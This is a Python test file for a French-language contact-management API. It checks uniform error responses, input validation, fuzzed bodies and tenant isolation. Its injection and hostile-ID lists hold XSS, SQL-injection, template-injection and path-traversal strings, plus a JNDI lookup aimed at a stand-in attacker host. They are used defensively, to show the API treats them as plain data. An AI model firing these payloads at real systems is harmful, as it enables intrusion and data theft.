"""Errors and bad input: one error shape everywhere, Chalice's own errors included;
no input produces a 500, and a rejected request changes nothing."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.support.responses import ok
from tests.support.world import CONTACT_FIELDS, World

UNKNOWN = "01ARZ3NDEKTSV4RRFFQ69G5FAV"
INJECTIONS = [
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    '"; DROP TABLE contacts; --',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "{% raw %}{{ config }}{% endraw %}",
    "#{7*7}",
    "../../etc/passwd",
    "%00",
    "attribute_not_exists(pk)",
    ":v OR begins_with(pk, :x)",
    "t-liste#all",
    "a\u202eevil",  # right-to-left override
    "\ufeffBOM",
]
UNICODE = [
    "Zoë 🎉👩‍👩‍👧",
    "مرحبا بالعالم",
    "שלום",
    "e\u0301\u0301\u0301",  # stacked combining accents
    "Z̴̢̛a̷l̸g̵o̶",
    "𝕳𝖊𝖑𝖊𝖓𝖊",
    "中文名字",
    "\u200b\u200d",  # zero-width characters only
]


def assert_error_shape(response: Any, status: int, code: str) -> dict[str, Any]:
    assert response.status_code == status, (status, response.status_code, response.body[:500])
    assert response.headers.get("Content-Type", response.headers.get("content-type", "")).startswith("application/json")
    body = json.loads(response.body)
    assert set(body) == {"error"}
    error = body["error"]
    assert set(error) == {"code", "message", "details"}
    assert error["code"] == code
    assert isinstance(error["message"], str) and error["message"]
    assert isinstance(error["details"], list)
    for detail in error["details"]:
        assert set(detail) == {"field", "message"}
        assert isinstance(detail["field"], str) and isinstance(detail["message"], str)
    return error


@pytest.fixture
def contact(world: World, person: dict[str, Any]) -> dict[str, Any]:
    created = ok(world.post("/contacts", person), 201)
    assert created.pop("possible_duplicates") == []  # the create response only: the contact as GET reads it
    return created


def test_bad_json_gives_400(world: World, contact: dict[str, Any]) -> None:
    for raw in (
        b"{not json",
        b'{"kind": "person",}',
        b"\xff\xfe\x00garbage",
        b'{"kind": "person", "last_name": "A"} trailing',
        b"[" * 100_000,
        b'{"a":' * 50_000,
        b"   ",
        b"",
    ):
        for method, path in (("POST", "/contacts"), ("PATCH", f"/contacts/{contact['id']}")):
            error = assert_error_shape(world.request(method, path, raw=raw), 400, "bad_request")
            assert error["details"][0]["field"] == "body", raw[:20]
    assert ok(world.get(f"/contacts/{contact['id']}"))["contact"] == contact


def test_json_that_is_not_an_object_gives_400(world: World) -> None:
    for raw in (
        b"[]",  # array
        b'[{"kind": "person", "last_name": "A"}]',  # array-of-contact
        b'"person"',  # string
        b"42",  # number
        b"null",  # null
        b"true",  # bool
    ):
        error = assert_error_shape(world.post("/contacts", raw=raw), 400, "bad_request")
        assert error["details"] == [{"field": "body", "message": "Un objet JSON est attendu."}], raw
    assert ok(world.get("/contacts"))["items"] == []


def test_unsupported_method_gives_405(world: World) -> None:
    for method, path in (
        ("PUT", "/contacts"),
        ("DELETE", "/contacts"),
        ("PUT", f"/contacts/{UNKNOWN}"),
        ("POST", f"/contacts/{UNKNOWN}"),
        ("DELETE", "/settings"),
        ("POST", "/audit"),
        ("PATCH", "/tasks"),
    ):
        error = assert_error_shape(world.request(method, path, {}), 405, "method_not_allowed")
        assert error["message"] == "Méthode non autorisée pour cette adresse.", (method, path)


def test_non_json_content_type_gives_415(world: World) -> None:
    headers = world.headers()
    for content_type in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"):
        response = world.post(
            "/contacts", raw=b"kind=person&last_name=A", headers={**headers, "Content-Type": content_type}
        )
        assert_error_shape(response, 415, "unsupported_media_type")
    assert ok(world.get("/contacts"))["items"] == []
    # JSON with a charset is JSON.
    response = world.post(
        "/contacts",
        raw=json.dumps({"kind": "person", "last_name": "A"}).encode(),
        headers={**headers, "Content-Type": "application/json; charset=utf-8"},
    )
    assert response.status_code == 201, response.body


def test_unknown_routes_give_404(world: World) -> None:
    for path in ("/nope", "/contacts/x/y/z", "/a/b/c/d/e/f", "/contacts/x/interactions/y", "/users/x/y"):
        for headers in (world.headers(), {}):
            for method in ("GET", "POST", "DELETE"):
                error = assert_error_shape(world.request(method, path, headers=headers), 404, "not_found")
                assert error["message"] == "Adresse inconnue.", (method, path)


def test_body_over_256_kib_gives_413(world: World, contact: dict[str, Any]) -> None:
    big = {"kind": "person", "last_name": "A", "protocol_notes": "x" * (256 * 1024)}
    assert_error_shape(world.post("/contacts", big), 413, "payload_too_large")
    big_patch = {"version": 1, "first_name": "y" * (300 * 1024)}
    assert_error_shape(world.patch(f"/contacts/{contact['id']}", big_patch), 413, "payload_too_large")
    assert_error_shape(world.post("/fields", raw=b" " * (257 * 1024) + b"{}"), 413, "payload_too_large")
    assert ok(world.get(f"/contacts/{contact['id']}"))["contact"] == contact
    assert [c["id"] for c in ok(world.get("/contacts"))["items"]] == [contact["id"]]
    # Just under the limit is read (and then judged on its content).
    under = {"kind": "person", "last_name": "A", "interests": ["i" * 100] * 50, "pad": "p" * (200 * 1024)}
    error = assert_error_shape(world.post("/contacts", under), 422, "validation_error")
    assert [d["field"] for d in error["details"]] == ["pad"]


def test_422_lists_every_invalid_field_in_french(world: World) -> None:
    response = world.post(
        "/contacts",
        {
            "kind": "person",
            "civility": "Dr",
            "first_name": 42,
            "emails": ["bon@exemple.fr", "mauvais", "pire@"],
            "phones": ["06 12 34 56 78", "123"],
            "address": {"postcode": "750001", "insee_code": "ABCDE", "pays": "FR"},
            "birth_date": "demain",
            "nationality": "français",
            "tags": {"a": 1},
            "affiliations": [{"organisation_id": "pas-un-ulid", "start": "2020-13-01"}],
            "partner_contact_id": 12,
            "address_form": "moderne",
            "couleur": "bleu",
        },
    )
    error = assert_error_shape(response, 422, "validation_error")
    assert error["message"] == "Certaines données sont invalides."
    messages = {d["field"]: d["message"] for d in error["details"]}
    assert set(messages) == {
        "civility",
        "first_name",
        "emails[1]",
        "emails[2]",
        "phones[1]",
        "address.postcode",
        "address.insee_code",
        "address.pays",
        "birth_date",
        "nationality",
        "tags",
        "affiliations[0].organisation_id",
        "affiliations[0].start",
        "partner_contact_id",
        "address_form",
        "couleur",
    }
    assert messages["emails[1]"] == "Adresse électronique invalide."
    assert messages["address.pays"] == "Champ inconnu."
    assert messages["first_name"] == "Doit être une chaîne de caractères."
    assert messages["tags"] == "Doit être une liste."
    for message in messages.values():
        assert not any(english in message for english in ("Input should", "Field required", " or ", "Value error"))


# (case, change to a valid person, field reported)
WRONG = [
    ("number-for-string", {"last_name": 12}, "last_name"),
    ("list-for-string", {"last_name": ["Dupont"]}, "last_name"),
    ("object-for-string", {"last_name": {"x": 1}}, "last_name"),
    ("object-for-list", {"emails": {"a": "b@c.fr"}}, "emails"),
    ("string-for-list", {"emails": "b@c.fr"}, "emails"),
    ("null-for-required", {"kind": None}, "kind"),
    ("bool-for-literal", {"kind": True}, "kind"),
    ("string-for-object", {"address": "12 rue X"}, "address"),
    ("string-for-custom", {"custom": "x"}, "custom"),
    ("number-for-date", {"birth_date": 19800101}, "birth_date"),
    ("null-in-list", {"tags": [None]}, "tags[0]"),
    ("100k-chars", {"last_name": "x" * 100_000}, "last_name"),
    ("nul-byte", {"first_name": "nul\x00byte"}, "first_name"),
    ("lone-surrogate", {"last_name": "\ud800"}, "last_name"),
    ("id-is-server-side", {"id": UNKNOWN}, "id"),
    ("version-on-create", {"version": 3}, "version"),
    ("created-at", {"created_at": "2020-01-01T00:00:00Z"}, "created_at"),
    ("tenant-id", {"tenant_id": "t-liste"}, "tenant_id"),
    ("proto", {"__proto__": {"admin": True}}, "__proto__"),
]


def test_wrong_types_and_unknown_fields_give_422(world: World) -> None:
    for case, change, field in WRONG:
        body = {"kind": "person", "last_name": "Dupont", **change}
        error = assert_error_shape(world.post("/contacts", body), 422, "validation_error")
        assert field in [d["field"] for d in error["details"]], case
    assert ok(world.get("/contacts"))["items"] == []


def test_rejected_patch_changes_nothing(world: World, contact: dict[str, Any]) -> None:
    path = f"/contacts/{contact['id']}"
    for body in (
        {"version": 1, "last_name": None, "first_name": "Changé"},
        {"version": 1, "emails": ["x"], "first_name": "Changé"},
        {"version": 1, "first_name": "Changé", "unknown": 1},
        {"version": 1, "first_name": "Changé", "partner_contact_id": UNKNOWN},
        {"version": 1, "first_name": "Changé", "custom": {"undeclared": 1}},
        {"version": 2, "first_name": "Changé"},
        {"version": "1", "first_name": "Changé", "tags": "x"},
        {"version": 1.5, "first_name": "Changé"},
        {"version": None, "first_name": "Changé"},
        {"version": -1, "first_name": "Changé"},
    ):
        response = world.patch(path, body)
        assert response.status_code in (409, 422), (body, response.body)
        assert_error_shape(
            response, response.status_code, "conflict" if response.status_code == 409 else "validation_error"
        )
    assert ok(world.get(path))["contact"] == contact
    assert [c["id"] for c in ok(world.get("/contacts?q=lefevre"))["items"]] == [contact["id"]]
    assert ok(world.get("/contacts?q=change"))["items"] == []


def test_unicode_is_stored_as_given(world: World) -> None:
    created = {}
    for n, value in enumerate(UNICODE):
        body = {"kind": "person", "first_name": value, "last_name": f"{value} Dupont{n}", "tags": [value]}
        created[value] = ok(world.post("/contacts", body), 201)
    for n, value in enumerate(UNICODE):
        stored = ok(world.get(f"/contacts/{created[value]['id']}"))["contact"]
        assert stored["first_name"] == value.strip(), value
        assert stored["last_name"] == f"{value} Dupont{n}".strip(), value
        assert stored["tags"] == [value.strip()], value
        assert [c["id"] for c in ok(world.get(f"/contacts?q=dupont{n}"))["items"]] == [created[value]["id"]]
        assert ok(world.get(f"/contacts?q={quote(value)}"))["items"] is not None
        assert ok(world.get(f"/contacts?tag={quote(value)}"))["items"] is not None


def test_injection_attempts_are_plain_text(world: World) -> None:
    ok(world.post("/fields", {"name": "note", "label": "Note", "type": "text"}), 201)
    created = []
    for n, value in enumerate(INJECTIONS):
        body = {
            "kind": "person",
            "first_name": value,
            "last_name": f"Cible{n}",
            "tags": [value],
            "interests": [value],
            "address": {"lines": [value], "city": value},
            "custom": {"note": value},
            "protocol_notes": value,
        }
        response = world.post("/contacts", body)
        assert response.status_code == 201, (value, response.body)
        created.append((value, response.json_body))
    for value, contact in created:
        stored = ok(world.get(f"/contacts/{contact['id']}"))["contact"]
        assert stored["first_name"] == value.strip()
        assert stored["custom"] == {"note": value.strip()}
        assert stored["address"]["lines"] == [value.strip()]
    assert len(ok(world.get("/contacts?limit=100"))["items"]) == len(INJECTIONS)
    for value in INJECTIONS:
        for query in (f"q={value}", f"tag={value}", f"kind={value}", f"cursor={value}", f"limit={value}"):
            response = world.get(f"/contacts?{query}")
            assert response.status_code < 500, (query, response.body)
            if response.status_code == 200:
                found = response.json_body["items"]
                assert all(c["last_name"].startswith("Cible") for c in found)
    # Nothing leaked into the other tenant.
    assert ok(world.get("/contacts", tenant="liste"))["items"] == []
    # Rendered JSON escapes nothing away: what was sent is what is read back, as data.
    assert b"<script>" in world.get(f"/contacts/{created[0][1]['id']}").body


HOSTILE_IDS = [
    "..",  # dot-dot
    "..%2F..%2Fetc%2Fpasswd",  # encoded-traversal
    "%00",  # encoded-nul
    "\x00",  # raw-nul
    "x" * 5000,  # 5000-chars
    "x" * 65,  # 65-chars
    "é" * 64,  # 64-multibyte
    "🎉" * 300,  # emoji-id
    "' OR 1=1 --",  # sql
    "${jndi:ldap:%2F%2Fx}",  # jndi
    "{{7*7}}",  # template
    "t-liste",  # other-tenant-id
    "\ud800",  # lone-surrogate
]


def test_hostile_ids_give_404_never_500(world: World, contact: dict[str, Any]) -> None:
    for bad_id in HOSTILE_IDS:
        for method, path, body in (
            ("GET", f"/contacts/{bad_id}", None),
            ("PATCH", f"/contacts/{bad_id}", {"version": 1, "first_name": "X"}),
            ("DELETE", f"/contacts/{bad_id}", None),
            ("GET", f"/contacts/{bad_id}/interactions", None),
            ("POST", f"/contacts/{bad_id}/interactions", {"kind": "call", "date": "2026-11-02", "summary": "x"}),
            ("PATCH", f"/tasks/{bad_id}", {"status": "done"}),
            ("GET", f"/users/{bad_id}", None),
            ("PATCH", f"/users/{bad_id}", {"roles": ["lecteur"]}),
            ("DELETE", f"/users/{bad_id}", None),
            ("PATCH", f"/fields/{bad_id}", {"label": "x"}),
            ("DELETE", f"/fields/{bad_id}", None),
        ):
            response = world.request(method, path, body)
            assert response.status_code == 404, (bad_id[:20], method, path[:60], response.body[:200])
            assert_error_shape(response, 404, "not_found")
    assert ok(world.get(f"/contacts/{contact['id']}"))["contact"] == contact


def test_path_traversal_never_reaches_a_file(world: World) -> None:
    for path in ("/docs/..%2F..%2Fapp.py", "/docs/../app.py", "/docs/swagger-ui.css%00.js", "/docs/index.html"):
        response = world.get(path, headers={})
        assert response.status_code == 404, (path, response.body[:200])
        assert_error_shape(response, 404, "not_found")


def test_query_strings_never_give_500(world: World, contact: dict[str, Any]) -> None:
    for query in (
        "q=" + "a" * 200,
        "q=" + "a " * 100,
        "q=" + "%F0%9F%8E%89" * 50,
        "q=%FF%FE",
        "q=%00",
        "q=",
        "tag=",
        "kind=",
        "limit=",
        "cursor=",
        "q=a&q=b",
        "limit=99999999999999999999999",
        "limit=1e3",
        "limit=%00",
        "tag=" + "t" * 51,
        "q=" + "-" * 200,
        "unknown=1&_=123",
    ):
        response = world.get(f"/contacts?{query}")
        assert response.status_code in (200, 400, 422), (query, response.body)
        if response.status_code != 200:
            assert_error_shape(response, response.status_code, response.json_body["error"]["code"])
    for query in (
        "assignee=" + "a" * 100,
        "due_before=99999-01-01",
        "status=%00",
        "assignee=me&status=open&due_before=",
    ):
        response = world.get(f"/tasks?{query}")
        assert response.status_code in (200, 400, 422), (query, response.body)


def test_headers_are_safe(world: World, contact: dict[str, Any]) -> None:
    for response in (world.get(f"/contacts/{contact['id']}"), world.get("/nope"), world.get("/contacts", headers={})):
        assert response.headers.get("X-Content-Type-Options") == "nosniff"
        assert response.headers.get("Cache-Control") == "no-store"


json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**40), max_value=10**40),
    st.floats(allow_nan=False),
    st.text(max_size=300),
)
json_values = st.recursive(
    json_scalars,
    lambda children: st.lists(children, max_size=5) | st.dictionaries(st.text(max_size=20), children, max_size=5),
    max_leaves=20,
)
contact_keys = st.sampled_from(sorted(CONTACT_FIELDS - {"created_at", "updated_at"}))
plausible = st.fixed_dictionaries(
    {"kind": st.sampled_from(["person", "organisation", "autre"]), "last_name": st.text(max_size=120)},
    optional={
        "organisation_name": st.text(max_size=210),
        "emails": st.lists(st.emails() | st.text(max_size=60), max_size=4),
        "phones": st.lists(st.from_regex(r"\+?[0-9 .()-]{0,20}", fullmatch=True), max_size=3),
        "address": st.fixed_dictionaries(
            {},
            optional={
                "postcode": st.from_regex(r"[0-9A-Z]{4,6}", fullmatch=True),
                "lines": st.lists(st.text(max_size=130), max_size=5),
                "city": json_values,
            },
        ),
        "tags": st.lists(st.text(max_size=60), max_size=30),
        "birth_date": st.dates().map(str) | st.text(max_size=12),
        "custom": st.dictionaries(st.sampled_from(["quartier", "enfants", "autre"]), json_values, max_size=3),
        "affiliations": st.lists(st.fixed_dictionaries({"organisation_id": st.text(max_size=30)}), max_size=2),
    },
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(body=plausible | st.dictionaries(contact_keys, json_values, max_size=8))
def test_fuzzed_contact_bodies_never_give_500(world: World, body: dict[str, Any]) -> None:
    response = world.post("/contacts", body)
    assert response.status_code < 500, (body, response.body)
    if response.status_code == 201:
        created = response.json_body
        assert ok(world.get(f"/contacts/{created['id']}"))["contact"]["id"] == created["id"]
        patched = world.patch(f"/contacts/{created['id']}", {**body, "version": 1})
        assert patched.status_code < 500, (body, patched.body)
    else:
        assert_error_shape(response, response.status_code, response.json_body["error"]["code"])


@pytest.fixture
def with_custom_fields(world: World) -> None:
    ok(world.post("/fields", {"name": "quartier", "label": "Q", "type": "choice", "choices": ["Centre"]}), 201)
    ok(world.post("/fields", {"name": "enfants", "label": "E", "type": "number"}), 201)
    ok(world.post("/fields", {"name": "autre", "label": "A", "type": "text"}), 201)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(custom=st.dictionaries(st.sampled_from(["quartier", "enfants", "autre", "x"]), json_values, max_size=3))
def test_fuzzed_custom_values_never_give_500(world: World, with_custom_fields: None, custom: dict[str, Any]) -> None:
    response = world.post("/contacts", {"kind": "person", "last_name": "Fuzz", "custom": custom})
    assert response.status_code in (201, 422), (custom, response.body)
    if response.status_code == 201:
        stored = ok(world.get(f"/contacts/{response.json_body['id']}"))["contact"]["custom"]
        assert set(stored) <= {"quartier", "enfants", "autre"}
